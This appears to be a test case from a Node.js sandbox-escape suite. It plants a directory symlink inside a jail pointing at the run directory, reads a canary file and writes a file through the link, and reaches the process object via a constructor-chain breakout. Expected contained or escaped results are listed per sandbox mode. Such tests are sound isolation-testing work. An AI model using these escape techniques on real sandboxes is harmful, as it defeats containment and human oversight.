/*---
id: fs-symlink-dir
title: A directory symlink in the jail pointing at the run directory
category: fs
goal: Plant a symlink inside the jail that points at the run directory, then read canary.txt and write a file through it — paths that look like they stay in the jail.
technique: fs.symlinkSync(runDir, 'jail/up') with an absolute target, then jail/up/canary.txt and jail/up/escaped-via-link.txt; the kernel follows the link wherever it points.
references: https://nodejs.org/api/fs.html#fssymlinksynctarget-path-type, https://nodejs.org/api/permissions.html#file-system-permissions, CVE-2025-55130
expect: * = contained; host = escaped; host+vm = escaped; worker = escaped; worker+vm = escaped; process = escaped; process+vm = escaped
expect-hardened: * = contained; host = escaped; host+vm = escaped; worker = escaped; worker+vm = escaped
---*/
const P =
  typeof process !== 'undefined'
    ? process
    : (() => {
        try {
          return this.constructor.constructor('return process')();
        } catch {
          return undefined;
        }
      })();
const results = {};
if (P) {
  const fs = P.getBuiltinModule('node:fs');
  const runDir = P.cwd().endsWith('/jail') ? P.cwd().slice(0, -'/jail'.length) : P.cwd();
  const link = `${runDir}/jail/up`; // the link itself lives inside the jail
  const steps = {
    symlink: () => fs.symlinkSync(runDir, link, 'dir'),
    read: () => fs.readFileSync(`${link}/canary.txt`, 'utf8').trim(),
    write: () => fs.writeFileSync(`${link}/escaped-via-link.txt`, 'written through a symlink\n'),
  };
  for (const [name, go] of Object.entries(steps)) {
    try {
      results[name] = go() ?? 'ok';
    } catch (e) {
      results[name] = e.code || e.message;
    }
  }
}
console.log('through jail/up:', P ? JSON.stringify(results) : 'no process object');
results;
